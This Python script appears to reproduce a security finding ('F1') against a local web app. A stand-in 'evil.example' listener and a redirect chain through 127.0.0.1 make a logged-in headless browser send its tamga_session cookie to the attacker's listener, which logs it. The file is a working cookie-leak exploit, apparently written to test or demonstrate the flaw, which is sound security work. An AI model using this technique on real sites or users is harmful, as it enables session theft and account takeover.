"""F1, without a link to localhost: the monitor only visits a page of another site (evil.example, mapped to the
attacker's listener). That page navigates to the listener's 127.0.0.1 address (cross-site: no cookie), whose page
navigates to itself once (same-site now): the browser sends tamga_session."""
import http.server, os, sys, threading, time
sys.path.insert(0, os.path.dirname(__file__))
import web
from selenium import webdriver
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait
os.environ.setdefault("SE_OFFLINE", "true")
D = sys.argv[1]
seen = []
class Evil(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        seen.append((self.headers.get("Host"), self.path, self.headers.get("Cookie")))
        port = self.server.server_port
        if self.headers.get("Host", "").startswith("evil.example"):
            page = f'<script>location.href="http://127.0.0.1:{port}/hop1";</script>'
        elif self.path == "/hop1":
            page = '<script>location.href="/hop2";</script>'
        else:
            page = "cat pictures"
        self.send_response(200); self.send_header("Content-Type", "text/html"); self.end_headers(); self.wfile.write(page.encode())
    def log_message(self, *a): pass
evil = http.server.HTTPServer(("127.0.0.1", 0), Evil); threading.Thread(target=evil.serve_forever, daemon=True).start()
p, base, token = web.serve(D)
o = webdriver.ChromeOptions(); o.binary_location = "/usr/bin/chromium"
for a in ["--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu", "--host-resolver-rules=MAP evil.example 127.0.0.1"]: o.add_argument(a)
drv = webdriver.Chrome(options=o, service=Service(executable_path="/usr/bin/chromedriver"))
try:
    drv.get(f"{base}/#{token}")
    WebDriverWait(drv, 20).until(lambda d: "/unlock" in d.current_url)
    drv.find_element(By.ID, "member").send_keys("Admin")
    drv.find_element(By.ID, "passphrase").send_keys(open(D + "/passphrase").read().rstrip("\n"))
    drv.find_element(By.CSS_SELECTOR, "form[action='/unlock'] button").click()
    WebDriverWait(drv, 20).until(lambda d: "/documents" in d.current_url)
    drv.get(f"http://evil.example:{evil.server_port}/")   # the monitor visits some web page
    time.sleep(3)
finally:
    drv.quit(); p.terminate(); p.wait()
for host, path, cookie in seen: print(f"listener got Host={host} path={path} Cookie={cookie}")
